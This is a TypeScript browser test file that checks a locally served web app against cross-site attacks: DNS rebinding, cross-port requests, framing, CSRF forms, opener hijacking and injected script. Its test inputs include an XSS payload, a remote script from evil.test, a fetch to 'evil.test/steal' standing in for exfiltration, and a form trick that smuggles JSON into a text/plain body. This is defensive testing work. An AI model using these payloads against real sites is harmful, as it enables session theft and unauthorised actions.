import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { expect, it, onTestFinished } from 'vitest';
import { describeInBrowser, openPage, openProfile } from '../support/browser.js';
import { emptyProgram, serveBuiltPages } from '../support/pages-fixture.js';

/** In the page of the attacker. */
declare const opened: Window;

const EVIL = ['--host-resolver-rules=MAP evil.test 127.0.0.1'];

describeInBrowser('a page of another site that knows the key', () => {
  it('reads nothing after DNS rebinding: its own name leads to this server', async () => {
    const { port, key, routesReached } = await attackedPages();
    const page = await (await openProfile({}, EVIL)).newPage();
    expect((await page.goto(`http://evil.test:${port}/`))?.status()).toBe(403);
    // A script in a page of this name: for the browser, these are requests to its own server.
    const answers = await page.evaluate(
      async ([authorization]) => {
        const ask = async (
          target: string,
          { headers, ...options }: { headers?: object; method?: string; body?: string } = {},
        ) => {
          const response = await fetch(target, {
            ...options,
            headers: { ...headers, Authorization: authorization },
          });
          return `${response.status} ${await response.text()}`;
        };
        const json = {
          method: 'POST',
          headers: { 'Content-Type': 'application/json' },
          body: '{"nonce":"0123456789abcdef"}',
        };
        return [
          await ask('/api/home'),
          await ask('/'),
          await ask('/health'),
          await ask('/key', json),
          await ask('/code', json),
        ];
      },
      [`Bearer ${key}`] as const,
    );
    for (const answer of answers) expect(answer).toMatch(/^403 \{"error":"These pages are at/);
    expect(routesReached()).toBe(0);
  });

  it('reads nothing from another port of this machine', async () => {
    const { url, key, routesReached } = await attackedPages();
    const page = await attackerPage();
    const results = await page.evaluate(attackFromPage, { url, key });
    expect(results).toEqual({
      'fetch with the key': 'TypeError',
      'fetch without cross-origin rules': 'TypeError',
      'fetch of the page': 'TypeError',
      EventSource: 'error',
      WebSocket: 'error',
      script: 'error',
      image: 'error',
    });
    expect(routesReached()).toBe(0);
  });

  it('cannot show the pages in a frame', async () => {
    const { url } = await attackedPages();
    const page = await attackerPage();
    const loaded = page.waitForResponse((response) => response.url().startsWith(url));
    await page.evaluate((source) => {
      const frame = document.createElement('iframe');
      frame.src = source;
      document.body.append(frame);
    }, url);
    expect((await loaded).status()).toBe(403);
    const inside = page.frames().find((frame) => frame !== page.mainFrame());
    expect(await inside?.content()).not.toContain('main-');
  });

  it.each(['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'])(
    'changes nothing with a form of the type %s',
    async (type) => {
      const { url, address, routesReached } = await attackedPages();
      const code = new URL(address('/')).hash.slice('#k='.length);
      for (const target of ['/key', '/code', '/api/home']) {
        const page = await attackerPage();
        const [answer] = await Promise.all([
          page.waitForResponse(url + target),
          page.evaluate(submitForm, { action: url + target, type, code }),
        ]);
        expect(answer.status()).toBe(403);
      }
      expect(routesReached()).toBe(0);
    },
  );

  it('has no hold on a window that it opens', async () => {
    const { url } = await attackedPages();
    const page = await attackerPage();
    const popup = await openWindow(page, url);
    expect(await popup.evaluate(() => window.opener)).toBeNull();
    expect(await popup.content()).not.toContain('main-');
  });

  it('can open the page by a link, which has no key then, and has no hold on it', async () => {
    const { url, routesReached } = await attackedPages();
    const page = await attackerPage('evil.test');
    const popup = await openWindow(page, url);
    await popup.getByText('Run witan view').waitFor();
    expect(await popup.evaluate(() => window.opener)).toBeNull();
    expect(await page.evaluate(() => opened.closed)).toBe(true);
    expect(routesReached()).toBe(0);
  });
});

describeInBrowser('the page itself', () => {
  it('runs no script from a text, and loads nothing from another site', async () => {
    const pages = await serveBuiltPages();
    const page = await openPage(pages);
    const elsewhere = requestsElsewhere(page, pages.url);
    const blocked = await page.evaluate(async () => {
      const attempts: Record<string, () => unknown> = {
        html: () => {
          document.body.innerHTML = '<img src=x onerror="window.pwned = 1">';
        },
        script: () => {
          const script = document.createElement('script');
          script.textContent = 'window.pwned = 1';
          document.body.append(script);
        },
        source: () => {
          const script = document.createElement('script');
          script.src = 'http://evil.test/evil.js';
          document.body.append(script);
        },
        handler: () => document.body.setAttribute('onclick', 'window.pwned = 1'),
        request: () => fetch('http://evil.test/steal'),
      };
      const outcomes: Record<string, string> = {};
      for (const [name, attempt] of Object.entries(attempts)) {
        try {
          await attempt();
          outcomes[name] = 'allowed';
        } catch (error) {
          outcomes[name] = (error as Error).name;
        }
      }
      const image = new Image();
      image.src = 'http://evil.test/pixel.png';
      await new Promise((resolve) => image.addEventListener('error', resolve));
      document.body.click();
      return outcomes;
    });
    expect(blocked).toMatchObject({
      html: 'TypeError',
      script: 'TypeError',
      source: 'TypeError',
      request: 'TypeError',
    });
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
    expect(elsewhere).toEqual([]);
  });

  it('asks only its own server, and no address that it asks for has the code or the key', async () => {
    const { key, address, url } = await serveBuiltPages();
    const page = await (await openProfile()).newPage();
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    const opened = address('/');
    await page.goto(opened);
    await page.getByRole('heading', { name: 'Home' }).waitFor();
    await page.reload();
    await page.getByRole('heading', { name: 'Home' }).waitFor();
    const code = new URL(opened).hash.slice('#k='.length);
    expect(asked.length).toBeGreaterThan(8);
    expect(asked.filter((each) => !each.startsWith(`${url}/`))).toEqual([]);
    // The first one is what was opened: its part after # stays in the browser.
    expect(asked.slice(1).filter((each) => each.includes(code) || each.includes(key))).toEqual([]);
    expect(await page.content()).not.toContain(key);
    expect(await page.evaluate(() => history.length)).toBeLessThanOrEqual(2);
    expect(page.url()).toBe(`${url}/`);
  });
});

/** Pages whose routes count who reaches them. */
async function attackedPages() {
  let reached = 0;
  const runs = async () => {
    reached++;
    return undefined;
  };
  const pages = await serveBuiltPages({ program: emptyProgram({ pageRuns: runs }) });
  return { ...pages, routesReached: () => reached };
}

async function openWindow(page: Page, url: string): Promise<Page> {
  const opening = page.waitForEvent('popup');
  await page.evaluate((target) => void Object.assign(window, { opened: window.open(target) }), url);
  const popup = await opening;
  await popup.waitForLoadState();
  return popup;
}

/** A page of a server on another port of this machine. */
async function attackerPage(host: '127.0.0.1' | 'evil.test' = '127.0.0.1'): Promise<Page> {
  const server = createServer((_, response) => {
    response.setHeader('Content-Type', 'text/html');
    response.end('<!doctype html><title>evil</title><body></body>');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => {
    server.close();
    server.closeAllConnections();
  });
  const page = await (await openProfile({}, EVIL)).newPage();
  await page.goto(`http://${host}:${(server.address() as AddressInfo).port}/`);
  return page;
}

/** Runs in the browser. */
async function attackFromPage({ url, key }: { url: string; key: string }): Promise<Record<string, string>> {
  const outcome = (target: EventTarget, good: string) =>
    new Promise<string>((resolve) => {
      for (const event of [good, 'error']) target.addEventListener(event, () => resolve(event));
    });
  const read = (request: Promise<Response>) =>
    request.then(
      (response) => `${response.type} ${response.status}`,
      (error: Error) => error.name,
    );
  const element = (name: 'script' | 'img', source: string) => {
    const made = document.createElement(name);
    made.src = source;
    document.body.append(made);
    return outcome(made, 'load');
  };
  return {
    'fetch with the key': await read(fetch(`${url}/api/home`, { headers: { Authorization: `Bearer ${key}` } })),
    'fetch without cross-origin rules': await read(fetch(`${url}/api/home`, { mode: 'no-cors' })),
    'fetch of the page': await read(fetch(url)),
    EventSource: await outcome(new EventSource(`${url}/api/changes`), 'open'),
    WebSocket: await outcome(new WebSocket(`${url.replace('http', 'ws')}/ws`), 'open'),
    script: await element('script', `${url}/api/home`),
    image: await element('img', `${url}/icon.svg`),
  };
}

/** Runs in the browser. */
function submitForm({ action, type, code }: { action: string; type: string; code: string }): void {
  const form = document.createElement('form');
  Object.assign(form, { action, method: 'post', enctype: type });
  const input = document.createElement('input');
  // As plain text, this is JSON: {"code":"…","x":"=1"}
  Object.assign(input, { name: `{"code":"${code}","x":"`, value: '1"}' });
  form.append(input);
  document.body.append(form);
  // Not now: the call that runs this must be answered by the page that is left.
  setTimeout(() => form.submit());
}

function requestsElsewhere(page: Page, url: string): string[] {
  const found: string[] = [];
  page.on('response', (response) => {
    if (!response.url().startsWith(url)) found.push(response.url());
  });
  return found;
}
